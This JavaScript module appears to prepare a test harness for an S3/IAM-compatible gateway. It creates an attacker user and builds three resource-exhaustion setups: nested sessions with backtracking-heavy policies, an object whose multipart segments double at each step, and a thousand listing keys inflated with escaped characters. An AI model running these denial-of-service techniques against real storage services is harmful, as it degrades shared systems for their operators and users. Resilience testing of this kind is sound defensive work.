// The account as an attacker finds it: a user with rights in one bucket, sessions with costly policies, an object of many segments.
import { randomBytes } from "node:crypto";
import { send } from "./signed-request.mjs";

const doublings = 9;
const maxDoublingMs = 5000;

function form(fields) {
  return new URLSearchParams(fields).toString();
}

async function must(answer, what) {
  const { status, text } = await answer;
  if (status !== 200 && status !== 204) throw new Error(`${what}: ${status} ${text.slice(0, 300)}`);
  return text;
}

function value(text, name) {
  return new RegExp(`<${name}>(.*?)</${name}>`).exec(text)?.[1] ?? "";
}

function query(target, service, keys, fields) {
  const version = service === "iam" ? "2010-05-08" : "2011-06-15";
  const headers = [["content-type", "application/x-www-form-urlencoded"]];
  const body = form({ Version: version, ...fields });
  return must(send(target, { method: "POST", path: "/", service, keys, headers, body }), fields.Action);
}

function keysIn(text) {
  const sessionToken = value(text, "SessionToken");
  return {
    accessKeyId: value(text, "AccessKeyId"),
    secretAccessKey: value(text, "SecretAccessKey"),
    ...(sessionToken === "" ? {} : { sessionToken }),
  };
}

/** Sessions of a session, each with a policy that is slow to match by backtracking. Stops where the gateway refuses more. */
async function costlySession(target, keys) {
  let session = keys;
  for (let level = 0; level < 7; level += 1) {
    const Policy = JSON.stringify({
      Version: "2012-10-17",
      Statement: [
        { Effect: "Allow", Action: "*", Resource: "*" },
        { Effect: "Deny", Action: "s3:DeleteObject", Resource: `arn:aws:s3:::bad/*${"a".repeat(900)}b` },
      ],
    });
    try {
      const fields = { Action: "AssumeRole", RoleSessionName: `level-${level}`, Policy };
      session = keysIn(await query(target, "sts", session, fields));
    } catch (error) {
      console.error(`costly policies: ${level} levels (${error.message})`);
      break;
    }
  }
  return session;
}

/** An object of ever more segments: a copy of itself and a byte more. Ends early where that costs the server much. */
async function manySegments(target, keys) {
  const path = "/bad/doubled";
  await must(send(target, { method: "PUT", path, keys, body: randomBytes(5 * 2 ** 20) }), "PutObject");
  for (let step = 0; step < doublings; step += 1) {
    const begun = performance.now();
    const upload = value(
      await must(send(target, { method: "POST", path, query: "uploads=", keys }), "uploads"),
      "UploadId",
    );
    const part = (number) => `partNumber=${number}&uploadId=${upload}`;
    const source = [["x-amz-copy-source", "/bad/doubled"]];
    const etags = [];
    for (const number of [1, 2]) {
      const copied = await send(target, { method: "PUT", path, query: part(number), keys, headers: source });
      if (copied.status !== 200) return;
      etags.push(value(copied.text, "ETag"));
    }
    const parts = etags.map((etag, index) => `<Part><PartNumber>${index + 1}</PartNumber><ETag>${etag}</ETag></Part>`);
    const body = `<CompleteMultipartUpload>${parts.join("")}</CompleteMultipartUpload>`;
    const completed = await send(target, { method: "POST", path, query: `uploadId=${upload}`, keys, body });
    if (completed.status !== 200 || performance.now() - begun > maxDoublingMs) return;
  }
}

export async function prepare(gateway) {
  const target = {
    port: Number(new URL(gateway.endpoint).port),
    admin: { accessKeyId: gateway.env.AWS_ACCESS_KEY_ID, secretAccessKey: gateway.env.AWS_SECRET_ACCESS_KEY },
    small: "x".repeat(1024),
  };
  for (const bucket of ["good", "bad"])
    await must(send(target, { method: "PUT", path: `/${bucket}`, keys: target.admin }), bucket);
  await must(send(target, { method: "PUT", path: "/good/small", keys: target.admin, body: target.small }), "small");
  await query(target, "iam", target.admin, { Action: "CreateUser", UserName: "mallory" });
  const rights = { Effect: "Allow", Action: "s3:*", Resource: ["arn:aws:s3:::bad", "arn:aws:s3:::bad/*"] };
  const PolicyDocument = JSON.stringify({ Version: "2012-10-17", Statement: [rights] });
  const named = { UserName: "mallory", PolicyName: "own", PolicyDocument };
  await query(target, "iam", target.admin, { Action: "PutUserPolicy", ...named });
  const made = await query(target, "iam", target.admin, { Action: "CreateAccessKey", UserName: "mallory" });
  const mallory = keysIn(made);
  // Each character of these keys is five in an answer.
  const longKey = (number) => `/bad/listed/${number}${"%26".repeat(1000)}`;
  for (let key = 0; key < 1000; key += 50) {
    const puts = Array.from({ length: 50 }, (_, index) =>
      must(send(target, { method: "PUT", path: longKey(key + index), keys: mallory, body: "x" }), "listed"),
    );
    await Promise.all(puts);
  }
  await manySegments(target, mallory);
  return { ...target, mallory, session: await costlySession(target, mallory) };
}
